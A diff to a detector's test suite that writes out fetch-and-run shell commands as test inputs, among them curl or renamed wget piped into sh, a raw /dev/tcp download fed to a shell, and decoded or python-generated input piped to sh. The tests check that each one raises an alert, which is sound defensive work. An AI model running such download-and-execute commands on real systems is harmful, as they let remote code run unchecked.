@@ -142,9 +142,9 @@ piped("listener", "a program that listens", "python3 listen.py | sh", "medium", 
 @test
 def renamed(sensor):
     """A downloader and a shell under other names: medium"""
-    need("busybox", "dash")
-    quiet, plain = copy("busybox", "quiet"), copy("dash", "plain")
-    alerts = act(sensor, f"dash -c :; {quiet} wget -qO- {URL} | {plain}")
+    need("curl", "dash")
+    quiet, plain = copy("curl", "quiet"), copy("dash", "plain")
+    alerts = act(sensor, f"dash -c :; {quiet} -s {URL} | {plain}")
     equal(told(alerts), {(PIPED, "medium")})
     equal(evidence(alerts[0], "reader.executable"), plain)
     equal(evidence(alerts[0], "source.executable"), quiet)
@@ -154,6 +154,12 @@ for language, code in {"python3": "-", "perl": "", "ruby": "", "php": "", "node"
                        }.items():
     piped(f"into_{language.rstrip('.0123456789')}", f"curl | {language}", f"curl -s {URL} | {language} {code}",
           "medium", "curl", ["curl", language])
+
+piped("two_names", "a script on another number of the same pipe", f"sh /dev/fd/3 3< <(curl -s {URL})",
+      "medium", "curl", ["curl"])
+piped("dev_tcp_cat", "what a shell reads of /dev/tcp, by cat",
+      f"exec 3<>/dev/tcp/127.0.0.1/{URL.split(':')[2].split('/')[0]}; "
+      "printf 'GET /x HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | sed '1,/^.$/d' | sh", "medium", "cat | sed")
 
 # --- decoded and generated ---
 
@@ -166,6 +172,9 @@ piped("busybox", "busybox base64 -d | busybox sh",
       "echo dHJ1ZQo= | busybox base64 -d | busybox sh", "medium", "busybox base64", ["busybox"])
 piped("python_code", "python -c | sh", "python3 -c 'print(\"true\")' | sh", "medium", "python3 -c")
 piped("perl_code", "perl -e | sh", "perl -e 'print \"true\\n\"' | sh", "medium", "perl -e", ["perl"])
+
+piped("python_feeds", "python -c that feeds a shell itself",
+      "python3 -c 'import subprocess; subprocess.run([\"sh\"], input=b\"true\")'", "medium")
 
 # --- little by itself ---
 
